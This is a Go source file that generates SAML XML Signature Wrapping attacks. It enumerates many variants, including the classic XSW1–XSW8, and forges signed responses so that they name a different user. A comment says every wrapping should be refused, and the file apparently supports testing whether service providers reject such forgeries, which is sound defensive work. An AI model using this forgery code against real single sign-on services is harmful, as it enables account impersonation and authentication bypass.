package forge

import (
	"fmt"
	"iter"

	"github.com/beevik/etree"
)

// A Wrapping makes of a signed message one that says something else beside, around or inside of what was signed, so that a
// service provider that verifies one element and reads another is deceived ("On Breaking SAML", USENIX Security 2012). Every
// Wrapping is to be refused.
type Wrapping struct {
	Unit   Unit   // what is there twice: the assertion, or the whole response
	Guest  Copy   // which of the two is put at Place; the other stands where the message has it
	Place  Place  // where the guest goes
	Holder Holder // which of the two has the unit's signature
	IDs    IDs    // how the evil one is called
}

// Unit is what a Wrapping doubles.
type Unit string

// Copy is one of the two units.
type Copy string

// Place is where a Wrapping puts the guest.
type Place string

// Holder says who has the signature.
type Holder string

// IDs says what ID the evil one has.
type IDs string

// The dimensions of the product.
const (
	UnitAssertion Unit = "assertion"
	UnitResponse  Unit = "response"

	CopyEvil     Copy = "evil"
	CopyOriginal Copy = "original"

	HeldByOriginal Holder = "signature at the original"
	HeldByEvil     Holder = "signature at the evil"
	HeldByBoth     Holder = "signature at both"

	IDKept    IDs = "same ID"
	IDNew     IDs = "new ID"
	IDSwapped IDs = "ID of the other level" // the evil assertion has the response's, and the other way round
	IDNone    IDs = "no ID"
	IDCase    IDs = "Id for ID"
)

// The places.
const (
	Before         Place = "before"
	After          Place = "after"
	Child          Place = "last child"
	Extensions     Place = "Extensions"
	Advice         Place = "Advice"
	StatusDetail   Place = "StatusDetail"
	Object         Place = "ds:Object"
	KeyInfo        Place = "KeyInfo"
	InSignature    Place = "Signature"
	AttributeValue Place = "AttributeValue"
	Unknown        Place = "unknown element"
	RootUnknown    Place = "unknown root"      // a root that nobody knows, with both in it
	Root           Place = "root"              // the guest is the root, the host is inside of it
	Subject        Place = "Subject"           // beside the confirmation
	ConfirmData    Place = "confirmation data" // whose content is open to any element (SAML 2.0 Core §2.4.1.2)
	AuthnContext   Place = "AuthnContextDecl"  // likewise
)

var (
	allPlaces = []Place{Before, After, Child, Extensions, Advice, StatusDetail, Object, KeyInfo, InSignature, AttributeValue, Unknown, RootUnknown, Root, Subject, ConfirmData, AuthnContext}
	allIDs    = []IDs{IDKept, IDNew, IDSwapped, IDNone, IDCase}
)

// Evil is whom the evil copy is about.
const Evil = "evil@acme.example"

// Wrappings is the whole product. Of a message whose units are not all signed, several come out the same.
func Wrappings() iter.Seq[Wrapping] {
	return func(yield func(Wrapping) bool) {
		for _, unit := range []Unit{UnitAssertion, UnitResponse} {
			for _, guest := range []Copy{CopyEvil, CopyOriginal} {
				for _, place := range allPlaces {
					for _, holder := range []Holder{HeldByOriginal, HeldByEvil, HeldByBoth} {
						for _, ids := range allIDs {
							if !yield(Wrapping{unit, guest, place, holder, ids}) {
								return
							}
						}
					}
				}
			}
		}
	}
}

// Classic are the eight of the literature that wrap, by the names that they have there. XSW9, which does not, is made with
// Signing.EditInfo and a second SignedInfo.
var Classic = map[string]Wrapping{
	"XSW1": {UnitResponse, CopyOriginal, InSignature, HeldByEvil, IDNew},
	"XSW2": {UnitResponse, CopyOriginal, Before, HeldByEvil, IDNew},
	"XSW3": {UnitAssertion, CopyEvil, Before, HeldByOriginal, IDNew},
	"XSW4": {UnitAssertion, CopyOriginal, Child, HeldByOriginal, IDNew},
	"XSW5": {UnitAssertion, CopyOriginal, After, HeldByEvil, IDNew},
	"XSW6": {UnitAssertion, CopyOriginal, InSignature, HeldByEvil, IDNew},
	"XSW7": {UnitAssertion, CopyEvil, Extensions, HeldByOriginal, IDNew},
	"XSW8": {UnitAssertion, CopyOriginal, Object, HeldByEvil, IDNew},
}

// String names the cell.
func (w Wrapping) String() string {
	return fmt.Sprintf("%s: %s in %s, %s, %s", w.Unit, w.Guest, w.Place, w.Holder, w.IDs)
}

// Apply makes the hostile message of a signed one whose assertion is in the clear.
func (w Wrapping) Apply(message []byte) []byte {
	d := Parse(message)
	response := d.Root()
	assertion := response.SelectElement("Assertion")
	host := assertion
	if w.Unit == UnitResponse {
		host = response
	}

	original := host.Copy()
	evil := host.Copy()
	w.corrupt(evil, response, assertion)
	signature := original.SelectElement("Signature")
	if signature != nil {
		signature = signature.Copy()
	}
	switch w.Holder {
	case HeldByOriginal:
		dropSignature(evil)
	case HeldByEvil:
		dropSignature(original)
	case HeldByBoth:
	}
	if w.Unit == UnitResponse && w.Holder != HeldByBoth {
		// An evil response does not keep the signature of its own evil assertion.
		dropSignature(evil.SelectElement("Assertion"))
	}

	stays, guest := original, evil
	if w.Guest == CopyOriginal {
		stays, guest = evil, original
	}
	if w.Unit == UnitResponse {
		d.SetRoot(stays)
	} else {
		at := assertion.Index()
		response.RemoveChildAt(at)
		response.InsertChildAt(at, stays)
	}
	w.place(d, stays, guest, signature)
	return Bytes(d)
}

// corrupt makes an evil copy: about somebody else, with the IDs that w says.
func (w Wrapping) corrupt(e, response, assertion *etree.Element) {
	for _, tag := range []string{".//NameID", ".//AttributeValue"} {
		for _, leaf := range e.FindElements(tag) {
			leaf.Child = nil
			leaf.CreateText(Evil)
		}
	}
	rename := func(e *etree.Element, other string) {
		if e == nil {
			return
		}
		switch w.IDs {
		case IDKept:
		case IDNew:
			e.CreateAttr("ID", NewID())
		case IDSwapped:
			e.CreateAttr("ID", other)
		case IDNone:
			e.RemoveAttr("ID")
		case IDCase:
			e.CreateAttr("Id", e.RemoveAttr("ID").Value)
		}
	}
	if w.Unit == UnitAssertion {
		rename(e, response.SelectAttrValue("ID", ""))
		return
	}
	rename(e.SelectElement("Assertion"), response.SelectAttrValue("ID", ""))
	rename(e, assertion.SelectAttrValue("ID", ""))
}

// place puts the guest where w says, seen from the one that stays.
func (w Wrapping) place(d *etree.Document, stays, guest, signature *etree.Element) {
	response := d.Root()
	assertion := response.SelectElement("Assertion")
	switch w.Place {
	case Before, After:
		beside, at := stays, 0
		if w.Unit == UnitResponse {
			// A document has one root: beside means beside its signature, or at its ends.
			if beside = stays.SelectElement("Signature"); beside == nil {
				beside = stays.ChildElements()[0]
			}
		}
		at = beside.Index()
		if w.Place == After {
			at++
		}
		beside.Parent().InsertChildAt(at, guest)
	case Child:
		stays.AddChild(guest)
	case Extensions:
		e := etree.NewElement("samlp:Extensions")
		response.InsertChildAt(response.SelectElement("Status").Index(), e)
		e.AddChild(guest)
	case StatusDetail:
		response.SelectElement("Status").CreateElement("samlp:StatusDetail").AddChild(guest)
	case Advice:
		e := etree.NewElement("saml:Advice")
		assertion.InsertChildAt(assertion.SelectElement("Conditions").Index()+1, e)
		e.AddChild(guest)
	case Subject:
		assertion.SelectElement("Subject").AddChild(guest)
	case ConfirmData:
		assertion.FindElement("./Subject/SubjectConfirmation/SubjectConfirmationData").AddChild(guest)
	case AuthnContext:
		assertion.FindElement("./AuthnStatement/AuthnContext").CreateElement("saml:AuthnContextDecl").AddChild(guest)
	case AttributeValue:
		value := assertion.FindElement("./AttributeStatement/Attribute/AttributeValue")
		value.AddChild(guest)
	case Object:
		signatureOf(stays, response, signature).CreateElement("ds:Object").AddChild(guest)
	case KeyInfo:
		signatureOf(stays, response, signature).SelectElement("KeyInfo").AddChild(guest)
	case InSignature:
		signatureOf(stays, response, signature).AddChild(guest)
	case Unknown:
		e := response.CreateElement("x:Wrapper")
		e.CreateAttr("xmlns:x", "urn:example:unknown")
		e.AddChild(guest)
	case RootUnknown:
		e := etree.NewElement("x:Wrapper")
		e.CreateAttr("xmlns:x", "urn:example:unknown")
		d.SetRoot(e)
		e.AddChild(response)
		e.AddChild(guest)
	case Root:
		d.SetRoot(guest)
		if s := guest.SelectElement("Signature"); s != nil {
			// What stands inside the signature is not covered by it.
			s.CreateElement("ds:Object").AddChild(response)
		} else {
			guest.AddChild(response)
		}
	}
}

// signatureOf is the signature of the one that stays, or else the response's, or else a copy of the unit's own that is put
// there for the purpose.
func signatureOf(stays, response, signature *etree.Element) *etree.Element {
	for _, e := range []*etree.Element{stays, response} {
		if s := e.SelectElement("Signature"); s != nil {
			return s
		}
	}
	if signature == nil {
		signature = etree.NewElement("ds:Signature")
		signature.CreateAttr("xmlns:ds", NSSignature)
		signature.CreateElement("ds:KeyInfo")
	}
	stays.InsertChildAt(stays.SelectElement("Issuer").Index()+1, signature)
	return signature
}

func dropSignature(e *etree.Element) {
	if e == nil {
		return
	}
	if s := e.SelectElement("Signature"); s != nil {
		e.RemoveChild(s)
	}
}
